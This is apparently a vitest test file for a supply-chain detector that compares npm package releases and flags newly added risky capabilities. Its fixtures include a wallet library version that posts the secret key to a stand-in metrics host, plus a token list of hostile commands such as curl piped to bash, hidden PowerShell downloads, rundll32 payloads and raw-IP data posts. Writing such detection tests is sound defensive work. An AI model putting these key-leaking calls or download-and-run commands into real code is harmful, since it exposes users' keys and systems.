import { describe, expect, it } from 'vitest';
import { previousVersion, riskyCapability } from '../../src/analysis/behaviour/capability.js';
import { releaseDiff } from '../../src/detectors/release-diff/index.js';
import type { PackageFacts } from '../../src/detectors/types.js';
import { factsFromFixture, type FixtureFile, type PackageFixture } from '../support/package-fixture.js';

const wallet = (extra: string) => `const nacl = require('tweetnacl');
class Keypair {
  static fromSecretKey(secretKey) {
${extra}    return new Keypair(nacl.sign.keyPair.fromSecretKey(secretKey));
  }
  constructor(kp) { this.kp = kp; }
}
module.exports = { Keypair };
`;
const leak = `    fetch('https://rpc-metrics.example.org/', { method: 'POST', body: JSON.stringify({ k: Buffer.from(secretKey).toString('base64') }), headers: { 'x-key': secretKey } }).catch(() => {});\n`;

function fixture(versions: [string, Record<string, FixtureFile>][]): PackageFixture {
  return {
    name: '@lib/wallet-kit',
    publisher: { name: 'someone', email: 'someone@example.com' },
    versions: versions.map(([version, files], i) => ({ version, publishedAt: new Date(Date.UTC(2024, 0, 1 + i)).toISOString(), manifest: { main: 'index.js' }, files })),
  };
}

function withPrevious(f: PackageFixture): PackageFacts {
  const facts = factsFromFixture(f);
  const prev = previousVersion(f.versions.map((v) => v.version), facts.version);
  if (prev && riskyCapability(facts)) facts.previous = { version: prev, files: factsFromFixture(f, prev).files! };
  return facts;
}

describe('release-diff', () => {
  it('reports key material sent to the network that the previous release did not send', () => {
    const facts = withPrevious(fixture([['1.95.6', { 'index.js': wallet('') }], ['1.95.7', { 'index.js': wallet(leak) }]]));
    expect(facts.previous?.version).toBe('1.95.6');
    const r = releaseDiff.detect({ facts, options: releaseDiff.meta.options.parse({}), now: new Date() });
    expect(r.findings).toHaveLength(1);
    expect(r.findings[0]!.data).toMatchObject({ version: '1.95.7', previous: '1.95.6' });
  });

  it('says nothing when the previous release already did the same', () => {
    const facts = withPrevious(fixture([['1.95.6', { 'index.js': wallet(leak) }], ['1.95.7', { 'index.js': wallet(leak) + '\n// docs\n' }]]));
    expect(releaseDiff.detect({ facts, options: releaseDiff.meta.options.parse({}), now: new Date() }).findings).toHaveLength(0);
  });

  describe('install hooks', () => {
    const hooked = (version: string, postinstall?: string): PackageFixture => ({
      name: 'hook-lib',
      publisher: { name: 'someone' },
      versions: [{ version, publishedAt: '2024-01-02T00:00:00.000Z', manifest: { main: 'index.js', ...(postinstall ? { scripts: { postinstall } } : {}) }, files: { 'index.js': 'module.exports = 1;\n' } }],
    });
    const judge = (previousManifest: Record<string, unknown> | undefined) => {
      const facts = factsFromFixture(hooked('2.0.0', 'node scripts/warn.js'));
      const previous = factsFromFixture(hooked('1.0.0'));
      facts.previous = { version: '1.0.0', files: previous.files!, ...(previousManifest ? { manifest: previousManifest } : {}) };
      return releaseDiff.detect({ facts, options: releaseDiff.meta.options.parse({}), now: new Date() });
    };

    it('reports a postinstall the release before did not have', () => {
      const r = judge({ name: 'hook-lib', version: '1.0.0', main: 'index.js' });
      expect(r.findings.map((f) => f.data?.what)).toEqual(['postinstall script `node scripts/warn.js`']);
    });

    it('claims nothing of the hooks when the release before has no readable package.json, and says so', () => {
      const r = judge(undefined);
      expect(r.findings).toEqual([]);
      expect(r.unavailable?.map((u) => u.signal)).toEqual(['release diff of install scripts']);
    });
  });

  it('does not ask for the previous tarball when nothing risky shows', () => {
    const facts = factsFromFixture(fixture([['1.0.0', { 'index.js': wallet('') }], ['1.0.1', { 'index.js': wallet('') }]]));
    expect(riskyCapability(facts)).toBe(false);
  });

  it('asks for the previous tarball for each risky token, in any case, wherever it sits in a file', () => {
    const risky = (code: string) => riskyCapability(factsFromFixture(fixture([['1.0.0', { 'index.js': '' }], ['1.0.1', { 'index.js': code }]])));
    const filler = 'module.exports = function add(a, b) { return a + b; };\n'.repeat(200);
    const tokens = [
      "send('https://Discord.com/api/webhooks/1/x')", 'const u = "eo1234567890ab.m.pipedream.net"', "get('https://PASTEBIN.com/raw/x')", "'https://abc.ngrok-free.app'",
      "exec('curl -s https://x.example/i | bash')", "exec('IWR -Uri https://x.example/p.ps1')", "exec('x | iex')", "exec('powershell -w hidden -c x')",
      "exec('rundll32 payload.dll,Run')", 'while (!![]) { step(); }', 'eval(function(p,a,c,k,e,d){return p})', 'window.fetch = hooked;', "data = '0x095ea7b3' + spender;",
    ];
    for (const token of tokens) expect(risky(`${filler}${token}\n${filler}`), token).toBe(true);
    expect(risky(filler)).toBe(false);
  });

  it('asks for the previous tarball for a raw IP destination, but not for a dev server on a local address', () => {
    const risky = (code: string) => riskyCapability(factsFromFixture(fixture([['1.0.0', { 'index.js': '' }], ['1.0.1', { 'index.js': code }]])));
    expect(risky("fetch('http://45.61.136.20/collect', { method: 'POST' });")).toBe(true);
    expect(risky("const debug = await fetch(`http://127.0.0.1:${port}/json/list`);\nconst any = 'http://0.0.0.0:3000';")).toBe(false);
    // A local address first does not hide a remote one later in the file.
    expect(risky("const a = 'http://127.0.0.1:9229';\nconst b = 'http://45.61.136.20/x';")).toBe(true);
    // A host name that only begins like a local address is not one.
    expect(risky("fetch('http://127.0.0.1.nip-io.example/collect');")).toBe(true);
  });

  it('takes key material as risky beside a network call, not a bundle away from one', () => {
    const risky = (code: string) => riskyCapability(factsFromFixture(fixture([['1.0.0', { 'index.js': '' }], ['1.0.1', { 'index.js': code }]])));
    const filler = `const table = ${JSON.stringify('x'.repeat(10_000))};\n`;
    // A transpiler helper names its parameter privateKey; the same bundle calls fetch far away.
    const helper = 'function _class_private_field_loose_base(receiver, privateKey) { return receiver; }\n';
    expect(risky(helper + filler + "fetch('/api/data');\n")).toBe(false);
    expect(risky(wallet(leak))).toBe(true);
    expect(risky(filler + helper + "fetch('/api/data');\n")).toBe(true);
  });

  it('picks the highest lower stable version', () => {
    expect(previousVersion(['1.0.0', '1.2.0', '1.10.0', '2.0.0-beta.1', '2.0.0'], '2.0.0')).toBe('1.10.0');
    expect(previousVersion(['1.0.0'], '1.0.0')).toBeUndefined();
    // Plain versions compared as numbers, prereleases and build metadata through semver.
    expect(previousVersion(['1.0.0', '1.1.0-rc.1', '1.0.10', '1.0.9+build', '2.0.0', 'junk'], '1.1.0')).toBe('1.0.10');
    expect(previousVersion(['1.0.0', '1.0.11+build.5', '1.0.10'], '1.1.0')).toBe('1.0.11+build.5');
    expect(previousVersion(['1.0.0', '2.0.0-beta.1', '2.0.0-beta.2'], '2.0.0-beta.2')).toBe('2.0.0-beta.1');
    // A dash inside build metadata is no prerelease; one before the `+` is.
    expect(previousVersion(['1.0.0', '1.0.12+build-5', '1.0.13-rc.1+build', '1.0.10'], '1.1.0')).toBe('1.0.12+build-5');
  });
});
